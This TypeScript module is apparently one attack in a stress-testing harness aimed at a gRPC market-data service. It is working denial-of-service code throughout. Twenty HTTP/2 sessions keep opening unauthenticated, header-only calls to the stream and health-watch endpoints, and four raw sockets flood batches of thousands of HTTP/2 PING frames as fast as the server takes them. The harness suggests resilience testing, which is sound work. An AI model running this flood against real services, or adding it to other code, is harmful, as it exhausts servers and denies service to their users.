import { connect } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, AttackTarget, Tally } from './attack.ts';
import { keepOpen, openSocket } from './sockets.ts';

const SESSIONS = 20;
const PING_CONNECTIONS = 4;
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const EMPTY_SETTINGS = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
const PING = Buffer.from([0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8]);
const PINGS = Buffer.concat(Array.from({ length: 2_000 }, () => PING));

/** Calls without a key that send only their headers, and pings as fast as they are accepted. */
export const grpcPings: Attack = {
  name: 'grpc-pings',
  summary: `${SESSIONS} connections that open calls without a key, health watches among them, and ${PING_CONNECTIONS} that send pings as fast as they are taken.`,
  async run(target, tally, signal) {
    const sessions = Array.from({ length: SESSIONS }, () => openCalls(target, tally, signal));
    await Promise.all([...sessions, sendPings(target, tally, signal)]);
  },
};

async function openCalls(
  { host, grpcPort }: AttackTarget,
  tally: Tally,
  signal: AbortSignal,
): Promise<void> {
  while (!signal.aborted) {
    const session = connect(`http://${host}:${grpcPort}`, {
      createConnection: () => openSocket(host, grpcPort, tally),
    });
    session.on('error', () => undefined);
    let isOpen = true;
    session.once('close', () => {
      isOpen = false;
      tally.count('session closed');
    });
    for (let count = 0; isOpen && !signal.aborted; count++) {
      const path =
        count % 2 === 0
          ? '/guardis.marketdata.v1.MarketDataService/StreamMarketData'
          : '/grpc.health.v1.Health/Watch';
      const stream = session.request({
        ':method': 'POST',
        ':path': path,
        te: 'trailers',
        'content-type': 'application/grpc',
      });
      stream.on('response', (headers) => tally.count(`grpc ${headers['grpc-status'] ?? 'open'}`));
      stream.on('error', () => tally.count('call failed'));
      stream.resume();
      await sleep(20);
    }
    session.destroy();
  }
}

async function sendPings(
  { host, grpcPort }: AttackTarget,
  tally: Tally,
  signal: AbortSignal,
): Promise<void> {
  const open = () => {
    const socket = openSocket(host, grpcPort, tally);
    socket.resume();
    const flood = () => {
      while (!socket.destroyed && socket.write(PINGS));
    };
    socket.on('drain', flood);
    socket.on('connect', () => {
      socket.write(PREFACE);
      socket.write(EMPTY_SETTINGS);
      flood();
    });
    return socket;
  };
  await keepOpen(PING_CONNECTIONS, 1, open, signal);
}
